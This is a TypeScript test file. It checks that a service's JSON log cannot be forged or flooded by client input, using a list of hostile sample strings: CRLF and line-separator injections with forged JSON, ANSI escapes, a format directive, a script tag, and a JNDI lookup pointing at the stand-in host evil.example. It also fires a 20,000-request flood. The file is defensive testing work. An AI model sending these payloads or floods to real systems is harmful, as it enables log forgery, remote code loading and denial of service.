// Row 108: nobody writes into our log. Whatever a client sends, and wherever, each line stays one JSON document of known fields, in which
// nothing of it stands. Row 128: nobody floods it either.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createLog } from "../../src/ground/log.ts";
import { createTestService, ownPath, requestTo, sdkPath } from "../support/app.ts";
import { createTestClock } from "../support/clock.ts";
import { startNodeProduct } from "../support/product-node.ts";
import { startWorkerProduct } from "../support/product-worker.ts";
import type { Product } from "../support/product.ts";
import { exchangeRaw, openRawSocket, rawRequest, statusesIn } from "../support/raw-socket.ts";
import { eventually } from "../support/redis-server.ts";

const planted = "INJECTED";
const forged = `{"kind":"request","status":200,"${planted}":1}`;
const utf8 = (text: string) => Buffer.from(text, "utf8").toString("latin1");

/** What makes a terminal, a line reader or a parser of logs see something that is not there. */
const tricks: readonly (readonly [string, string])[] = [
  ["a line break", `\n${forged}`],
  ["a carriage return", `\r\n${forged}`],
  ["a red text", `\u001b[31m${planted}\u001b[0m`],
  ["a cleared screen", `\u001b[2J${planted}`],
  ["a bell, a backspace and a NUL", `\u0007\b\u0000${planted}`],
  ["a C1 control", `\u0085${planted}\u009b31m`],
  ["a line separator", `\u2028${forged}`],
  ["a paragraph separator", `\u2029${forged}`],
  ["a right-to-left override", `\u202e${planted}`],
  ["a quote and a backslash", `"\\${planted}`],
  ["a format directive", `%s%n${planted}`],
  ["a lookup", `\${jndi:ldap://evil.example/${planted}}`],
  ["a script", `<script>${planted}</script>`],
  ["a very long text", planted.repeat(500)],
];

/** The same as bytes and percent-encoded, in every place of a request. */
function requestsWith(trick: string): string[] {
  const encoded = encodeURIComponent(trick);
  const targets = [
    `/${encoded}`,
    `/v1/apps/${encoded}/sessions`,
    `${ownPath}?search=${encoded}`,
    `${ownPath}?${encoded}=${encoded}`,
    `${ownPath}?page_no=${encoded}`,
    sdkPath.replace("/_/", `/${encoded}/`),
    `/problems/${encoded}`,
    `/${utf8(trick)}`,
    `/${utf8(trick)}?${utf8(trick)}`,
  ];
  const names = [
    "Origin",
    "User-Agent",
    "Referer",
    "X-Request-Id",
    "Traceparent",
    "If-None-Match",
    "X-Forwarded-For",
    "Authorization",
    "Cookie",
    "Accept",
    planted,
  ];
  return [
    ...targets.map((target) => rawRequest(target)),
    // A refused query makes a line of every one of these.
    ...names.flatMap((name) =>
      [encoded, utf8(trick)].map((value) =>
        rawRequest(`${ownPath}?page_no=x`, { headers: `Host: product\r\n${name}: ${value}` }),
      ),
    ),
    rawRequest(ownPath, { method: "PURGE", headers: `Host: product\r\nX-HTTP-Method-Override: ${encoded}` }),
  ];
}

const fields = ["time", "level", "kind", "part", "event", "request_id", "app", "limit", "method", "route", "status"];
const furtherFields = ["duration_ms", "events", "for_ms", "counts"];

function expectClean(lines: readonly string[]): void {
  for (const line of lines) {
    expect(line).not.toMatch(/[^\x20-\x7e]/);
    expect(line).not.toMatch(/INJECTED|evil\.example/i);
    const parsed = JSON.parse(line) as Record<string, unknown>;
    expect(Object.keys(parsed).filter((name) => ![...fields, ...furtherFields].includes(name))).toEqual([]);
    expect(line.length).toBeLessThan(2_000);
  }
}

/** A Worker never sees a Host that is none: its platform refuses it in its own words. */
const oddHost = (trick: string) =>
  rawRequest(`${ownPath}?page_no=x`, { headers: `Host: ${encodeURIComponent(trick)}` });

describe.each([
  ["the Node process", startNodeProduct, [oddHost]],
  ["the Worker", startWorkerProduct, []],
] as const)("row 108: %s", (_, start, further) => {
  let product: Product;
  beforeAll(async () => {
    // On this level no line is counted in place of being written.
    product = await start({ LOG_LEVEL: "debug" });
  });
  afterAll(() => product.stop());

  it.each(tricks)("writes nothing of %s", async (_name, trick) => {
    const before = product.logs().length;
    const texts = [...requestsWith(trick), ...further.map((make) => make(trick))];
    await Promise.all(texts.map((text) => exchangeRaw(product.url, text)));
    // A line may come after its answer.
    await eventually("the requests are in the log", () => product.logs().length - before > 10);
    expectClean(product.logs());
  });
});

/** The characters that a method has on no platform, as far as JSON escapes them. */
const withoutPlanted = (trick: string) => trick.replaceAll(/[\u0080-\u{10ffff}]|INJECTED|evil\.example/gu, "");

it("row 108: a method is written as JSON has it, and a route as we named it", async () => {
  const lines: string[] = [];
  const { send } = createTestService({
    services: { log: createLog((line) => lines.push(line), { clock: createTestClock(), level: "debug" }) },
  });
  for (const [, trick] of tricks) {
    await send(ownPath, {
      method: `X${withoutPlanted(trick)}`,
    });
    await send(`/${encodeURIComponent(trick)}`);
  }
  expect(lines).toHaveLength(2 * tricks.length);
  expectClean(lines);
});

/** The counts in all lines that tell of lines not written, by reason. */
function countsIn(lines: readonly string[]): Record<string, number> {
  const sums: Record<string, number> = {};
  for (const line of lines) {
    const { counts = {} } = JSON.parse(line) as { counts?: Record<string, number> };
    for (const [reason, count] of Object.entries(counts)) sums[reason] = (sums[reason] ?? 0) + count;
  }
  return sums;
}

describe("row 128: a flood of refusals", () => {
  const floodCount = 20_000;
  const connectionCount = 8;

  /** On one connection, one after the other without waiting. */
  function flood(url: string, count: number, headers = "Host: product"): Promise<string> {
    const raw = openRawSocket(url);
    const one = `GET ${ownPath} HTTP/1.1\r\n${headers}\r\n\r\n`;
    raw.write(one.repeat(count - 1) + rawRequest(ownPath, { headers }));
    return raw.closed;
  }

  it("without a credential takes 20 lines of the Node process at most, which tell how many there were; what is the operator's is told", async () => {
    const product = await startNodeProduct({
      AUTH_MODE: "key",
      API_KEYS: `server=${"ab".repeat(32)}`,
      POLICIES: undefined,
    });
    let lines: readonly string[] = [];
    const startedAt = performance.now();
    try {
      const connections = Array.from({ length: connectionCount }, () =>
        flood(product.url, floodCount / connectionCount),
      );
      const answers = await Promise.all(connections);
      const statuses = answers.flatMap(statusesIn);
      expect(statuses).toHaveLength(floodCount);
      expect(new Set(statuses)).toEqual(new Set([401]));
    } finally {
      await product.stop();
      lines = product.logs();
    }
    // A second of it may take a busy machine a minute, in which more lines are due.
    const seconds = (performance.now() - startedAt) / 1_000;
    expect(lines.length).toBeLessThanOrEqual(Math.max(20, seconds));
    const written = lines.filter((line) => line.includes('"code":"unauthorized"')).length;
    expect(written).toBeGreaterThanOrEqual(10);
    expect(countsIn(lines)).toEqual({ unauthorized: floodCount - written });
    expect(lines.some((line) => line.includes("node.draining"))).toBe(true);
    for (const line of lines) expect(line).toMatch(/^\{"time":"\d{4}-\d\d-\d\dT[\d:.]+Z","level":"(?:info|warn)",/);
  });

  it("of five kinds in 1.2 s takes ten lines of each and one for the rest, and a lost Redis is told in between", async () => {
    const lines: string[] = [];
    const clock = createTestClock();
    const log = createLog((line) => lines.push(line), { clock });
    const { app } = createTestService({
      settings: {
        AUTH_MODE: "key",
        API_KEYS: `server=${"ab".repeat(32)}`,
        CLIENT_CREDENTIAL_CHECKS_PER_MINUTE: "1",
      },
      services: { log },
    });
    const wrongKey = { authorization: `Bearer rtkb_server_${"A".repeat(43)}` };
    const kinds: readonly (readonly [string, RequestInit])[] = [
      [ownPath, {}],
      [ownPath, { headers: wrongKey }],
      ["/nothing", {}],
      [ownPath, { method: "DELETE" }],
      ["/%70", {}],
    ];
    const rounds = floodCount / kinds.length;
    for (let round = 0; round < rounds; round += 1) {
      for (const [target, init] of kinds) await app.fetch(requestTo(target, init));
      if (round === rounds / 2) log({ kind: "event", part: "node", event: { type: "redis.lost", reason: "late" } });
      if (round % (rounds / 12) === 0) await clock.advance(100);
    }
    log.flush();
    expect(lines.length).toBeLessThanOrEqual(4 * 10 + 3);
    expect(lines.filter((line) => line.includes('"redis.lost"'))).toHaveLength(1);
    const written = (code: string) => lines.filter((line) => line.includes(`"code":"${code}"`)).length;
    const counts = countsIn(lines);
    // The first wrong key is looked at and refused; those after it have to wait.
    expect({
      unauthorized: written("unauthorized") + (counts["unauthorized"] ?? 0),
      rate_limited: written("rate_limited") + (counts["rate_limited"] ?? 0),
      not_found: written("not_found") + (counts["not_found"] ?? 0),
      method_not_allowed: written("method_not_allowed") + (counts["method_not_allowed"] ?? 0),
    }).toEqual({
      unauthorized: rounds + 1,
      rate_limited: rounds - 1,
      not_found: 2 * rounds,
      method_not_allowed: rounds,
    });
  });
});
